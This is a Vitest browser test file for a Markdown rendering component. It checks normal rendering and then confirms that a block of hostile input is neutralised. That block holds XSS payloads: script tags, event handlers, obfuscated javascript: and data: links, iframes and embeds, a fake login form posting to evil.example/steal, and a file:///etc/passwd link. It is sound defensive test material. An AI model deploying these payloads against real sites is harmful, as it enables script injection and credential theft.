import { expect, test } from 'vitest'
import { page } from 'vitest/browser'
import { expectAccessible } from '../../../tests/support/component/accessibility'
import { expectTexts } from '../../../tests/support/component/expectations'
import { renderUi } from '../../../tests/support/component/ui'
import Markdown from './markdown'

const renderText = (text: string) =>
  renderUi(
    <main>
      <Markdown text={text} empty="暂无详细内容" />
    </main>,
  )

const main = () => page.getByRole('main')

const everything = `# 一级标题

## 二级标题

- 列表项
- [x] 已办
- [ ] 待办

1. 第一

[链接](https://example.com/help) 和 \`代码\`[^1]

\`\`\`
echo hi
\`\`\`

| 套餐 | 价格 |
| --- | --- |
| 4 核 | $15.00 |

![图](/icon.svg)

[^1]: 注释
`

test('headings, lists, links, code, tables, images', { tags: ['ann-12', 'qua-01'] }, async () => {
  await renderText(everything)
  const text = main()
  await expectTexts(text.getByRole('heading', { level: 2 }), ['一级标题', '二级标题', '脚注'])
  await expect.element(text.getByRole('heading', { name: '脚注' })).toHaveCSS('position', 'absolute')
  await expect.element(text.getByRole('listitem').filter({ hasText: '列表项' })).toBeVisible()
  await expect.element(text.getByRole('checkbox', { name: '已完成' })).toBeChecked()
  await expect.element(text.getByRole('checkbox', { name: '未完成' })).not.toBeChecked()
  await expect
    .element(text.getByRole('link', { name: '回到正文' }))
    .toHaveAttribute('href', '#user-content-fnref-1')
  expect(text.css('pre code').element().textContent).toBe('echo hi\n')
  await expectTexts(text.getByRole('table').css('td'), ['4 核', '$15.00'])
  await expect.element(text.getByRole('img', { name: '图' })).toHaveProperty('complete', true)
  await text.getByRole('link', { name: '1', exact: true }).click()
  expect(location.hash).toBe('#user-content-fn-1')
  await expect.element(text.css('#user-content-fn-1')).toBeInViewport()
  await expectAccessible()
})

/** Whatever a malicious writer might try. */
const hostile = `
<script>window.broken = 'script'</script>
<img src=x onerror="window.broken = 'onerror'"> <svg onload="window.broken = 'onload'"></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<embed src="https://evil.example/e"><base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="password"><button>登录已过期</button></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0" onmouseover="window.broken = 'hover'">盖住一切</div>
<a href="javascript:window.broken='html'">原文链接</a>

[脚本](javascript:window.broken='link') [大写](JaVaScRiPt:window.broken='case')
[实体](&#106;avascript:window.broken='entity') [控制符](<java\tscript:window.broken='tab'>)
[数据](data:text/html,<script>window.broken='data'</script>) [VB](vbscript:window.broken)
[块](blob:https://evil.example/1) [文件](file:///etc/passwd)
[聊天](irc://evil.example/room) [私聊](xmpp:a@example.com)
<javascript:window.broken='auto'> ![图](javascript:window.broken='img') ![数据图](data:image/svg+xml,<svg/>)
![聊天图](irc://evil.example/image)

[引用][1] [正常](https://example.com/ok "标题") [邮件](mailto:a@example.com) [站内](/nodeExplore)

[1]: javascript:window.broken='reference
`

const forbidden =
  'script, iframe, object, embed, base, form, input, button, style, link, meta, svg, img, [style]'

// The test ends with the requests that went to another server.
test('hostile content has no effect; links open in a tab of their own', { tags: ['ann-13'] }, async () => {
  await renderText(hostile)
  const text = main()
  await expect.element(text.getByRole('link', { name: '正常' })).toBeVisible()
  await expect.element(text.css(forbidden)).toHaveLength(0)
  const attributes = [...text.element().querySelectorAll('*')].flatMap((one) => one.getAttributeNames())
  expect(attributes.filter((name) => name.startsWith('on'))).toEqual([])
  const links = text
    .getByRole('link')
    .elements()
    .map((one) => ['href', 'target', 'rel'].map((name) => one.getAttribute(name)))
  expect(links).toEqual(
    ['https://example.com/ok', 'mailto:a@example.com', '/nodeExplore'].map((href) => [
      href,
      '_blank',
      'noopener noreferrer',
    ]),
  )
  for (const name of ['脚本', '大写', '实体', '数据', '块', '引用'])
    await expect.element(text).toContainText(name)
  await text.hover()
  expect(Reflect.get(window, 'broken')).toBeUndefined()
})

test.each([
  ['标题\n\n<br>\n维护时间：**11-20**\n影响：全部节点\n\n完', '标题\n维护时间：11-20\n影响：全部节点\n完'],
  ['<p>维护时间 11-20<br>\n影响：全部</p>\n<p>完</p>', '维护时间 11-20\n影响：全部\n完'],
  ['<center>重要通知：停机</center>', '重要通知：停机'],
  ['<div>\n    <p>甲</p>\n</div>', '甲'],
  ['<details><summary>甲</summary>\n乙</details>', '甲\n乙'],
  ['<table><tr><td>甲</td><td>乙</td></tr></table>', '甲 乙'],
  ['请用 <IP> 替换<br>\n配置 <your-wallet> 参数', '请用 <IP> 替换\n配置 <your-wallet> 参数'],
  ['<IP>\n- <b onclick="x">甲</b>', '<IP>\n甲'],
  ['> <p>甲</p>\n\n- <div>乙</div>', '甲\n乙'],
  ['甲<!-- 不说 -->乙\n\n<!-- 不\n\n说 -->', '甲乙'],
  ['<style>p {}</style>\n<script>x\n\ny</script>甲', '甲'],
  ['<p>&nbsp;</p>\n<script>x</script>', '暂无详细内容'],
  ['[1]: https://example.com', '暂无详细内容'],
])('the words in HTML are shown, its markup is not: %j', async (text, shown) => {
  await renderText(text)
  const lines = document.querySelector('main')?.innerText.split(/\n+/)
  expect(lines).toEqual(shown.split('\n'))
})
